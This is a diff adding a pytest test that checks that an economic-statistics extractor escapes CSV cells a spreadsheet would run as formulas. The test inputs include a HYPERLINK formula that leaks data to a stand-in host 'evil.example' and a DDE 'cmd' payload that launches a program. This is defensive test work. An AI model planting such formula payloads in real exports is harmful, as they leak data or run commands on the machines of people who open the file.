@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+
+import pytest
 
 from econstats.cli import main
 
@@ -66,3 +70,27 @@ def test_build_summary_and_strict(tmp_path, capsys):
 def test_build_of_missing_corpus_exits_2(tmp_path, capsys):
     assert main(["build", "--corpus", str(tmp_path / "none"), "--out", str(tmp_path / "b")]) == 2
     assert "none" in capsys.readouterr().err
+
+
+FALL = (
+    "China's fiscal revenue decreased by 2.5 percent year on year to 18.65 trillion yuan in the "
+    "first 10 months of 2025."
+)
+
+
+# issue 12 item 9: a line of the document that a spreadsheet would run as a formula
+@pytest.mark.parametrize(
+    "start",
+    ['=HYPERLINK("http://evil.example/?leak")', "+cmd|' /C calc'!A0", "-cmd", "@SUM(A1:A2)", ""],
+)
+def test_extract_csv_escapes_text_a_spreadsheet_would_run(tmp_path, capsys, start):
+    article = tmp_path / "article.txt"
+    line = f"{start} {FALL}".strip()
+    article.write_text(line + "\n", encoding="utf-8")
+    assert main(["extract", str(article), "--published-date", "2025-11-17", "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    escaped = f"'{line}" if start else line
+    assert [(row["quote"], row["value"], row["value_text"]) for row in rows] == [
+        (escaped, "-2.5", "2.5 percent"),  # the fall's value stays a number
+        (escaped, "18650000000000.0", "18.65 trillion yuan"),
+    ]
